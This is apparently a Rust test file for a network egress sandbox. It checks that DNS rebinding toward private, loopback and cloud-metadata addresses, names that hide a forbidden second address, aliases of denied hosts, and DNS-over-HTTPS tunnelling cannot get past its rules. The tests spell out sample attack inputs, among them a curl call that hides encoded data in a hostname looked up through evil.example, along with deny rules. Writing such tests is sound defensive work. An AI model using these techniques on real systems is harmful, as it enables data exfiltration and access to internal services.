//! Names that stand for something else than they seem to: second answers, several addresses, aliases; and look-ups that leave
//! by another protocol (N03, N04, N05, N11).

use palisade_testkit::World;

use crate::egress::{EVIL, allow, connects, curl, in_lab, lab, page};
use crate::host::strings;

/// A name below `domain` that has been asked for by nobody but this run.
fn fresh_name(world: &World, domain: &str) -> String {
    let own = world.path().file_name().unwrap_or_default().to_string_lossy();
    format!("{}.{domain}", own.to_ascii_lowercase())
}

/// Every answer holds for no second at all, as its server says.
///
/// Proves: NET-4 pinned
#[test]
fn n05_a_second_answer_changes_nothing() {
    for (what, domain, address) in [
        ("a private address", "turning.example", "10.0.0.5:"),
        ("the host's loopback", "turning-loopback.example", "127.0.0.1:"),
        ("an address of the host's own", "turning-own.example", "203.0.113.1:"),
        ("the metadata service", "turning-metadata.example", "169.254.169.254:"),
    ] {
        let lab = lab();
        let attack = in_lab(&lab, "N05", format!("a name whose second answer is {what}"))
            .by_design("what a name stood for first is what is connected to, and it was checked")
            .flags(move |_| strings(&["--allow-host", &format!("*.{domain}")]))
            .command(move |world| {
                let (name, probe) = (fresh_name(world, domain), world.probe());
                let (look, get) = (format!("look-up {name}"), format!("page {name}:80 {name} /"));
                strings(&["sh", "-c", &format!("{probe} {look}; {probe} {look}; {probe} {get}")])
            })
            .contained(move |world, output| {
                output.out().contains(&format!("hello from {}", fresh_name(world, domain)))
            });
        connects(attack, &lab, address).check();
    }
}

/// The first address is a good one, and nobody answers there.
///
/// Proves: NET-3 special-addresses, NET-4 pinned
#[test]
fn n04_one_forbidden_address_of_several_is_enough() {
    for (place, address) in
        [("second-private.example:80", "10.0.0.5:"), ("second-local.example:80", "[fd00::5]:")]
    {
        let lab = lab();
        let attack = in_lab(&lab, "N04", format!("a forbidden address behind a good one: {place}"))
            .proves(&["NET-3 special-addresses", "NET-4 pinned"])
            .held_by(&["address-check"])
            .flags(allow(&["*.example"]))
            .command(page(place));
        connects(attack, &lab, address).check();
    }
}

/// As trackers hide from block-lists.
///
/// Proves: NET-3 block-list
#[test]
fn n11_a_denied_host_is_not_reached_by_an_alias() {
    for (place, denied) in [
        ("alias-of-evil.example:80", "evil.example"),
        ("alias-of-internal.example:80", "*.internal"),
    ] {
        let lab = lab();
        let attack =
            in_lab(&lab, "N11", format!("a host denied as {denied}, by its alias {place}"))
                .proves(&["NET-3 block-list"])
                .held_by(&["egress-rules"])
                .flags(move |_| strings(&["--allow-host", "*.example", "--deny-host", denied]))
                .command(page(place));
        connects(attack, &lab, EVIL).check();
    }
}

/// Proves: NET-6 tunnelling
#[test]
fn n03_no_name_leaves_by_a_resolver_over_https() {
    for server in ["https://evil.example/dns-query", "https://203.0.113.66/dns-query"] {
        let lab = lab();
        let asked = ["--doh-insecure", "--doh-url", server, "http://c2VjcmV0.web.example/"];
        let attack = in_lab(&lab, "N03", format!("data in a name that is looked up at {server}"))
            .proves(&["NET-6 tunnelling"])
            .held_by(&["egress-rules"])
            .flags(allow(&["web.example"]))
            .command(move |world| [curl(&["--noproxy", "*"])(world), strings(&asked)].concat());
        connects(attack, &lab, EVIL).check();
    }
}
